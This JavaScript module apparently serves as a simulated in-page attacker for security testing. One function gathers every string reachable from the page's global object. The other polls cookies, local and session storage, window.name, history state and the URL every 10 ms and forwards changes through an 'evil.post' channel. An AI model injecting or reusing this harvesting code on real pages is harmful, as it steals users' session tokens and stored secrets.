/** Runs in the page: every string that can be reached from the global object through properties, hidden or not. */
export function reachable(evil) {
  const most = 150_000;
  const known = new Set([globalThis]);
  const found = [];
  for (const value of known) {
    if (typeof value === "string") found.push(value);
    const isObject = (typeof value === "object" && value !== null) || typeof value === "function";
    if (!isObject || value === evil || known.size > most) continue;
    for (const name of Reflect.ownKeys(value)) known.add(name).add(evil.read(value, name));
    known.add(Object.getPrototypeOf(value));
    if (value instanceof Map || value instanceof Set || value instanceof Headers) for (const item of value) known.add(item);
    if (value instanceof ArrayBuffer) known.add(evil.latin1(new Uint8Array(value)));
    if (ArrayBuffer.isView(value)) known.add(value.buffer);
  }
  return { text: found.join("\n"), objects: known.size };
}

/** Runs in the page, early: looks into what is quickly read again and again, from the first moment on. */
export function watch(evil) {
  const looks = () => {
    const { pathname, search, hash } = location;
    const stores = [localStorage, sessionStorage].map((store) => Object.entries(store));
    return JSON.stringify([stores, document.cookie, window.name, history.state, { pathname, search, hash }]);
  };
  let last;
  setInterval(() => {
    const now = looks();
    if (now !== last) evil.post(now);
    last = now;
  }, 10);
}
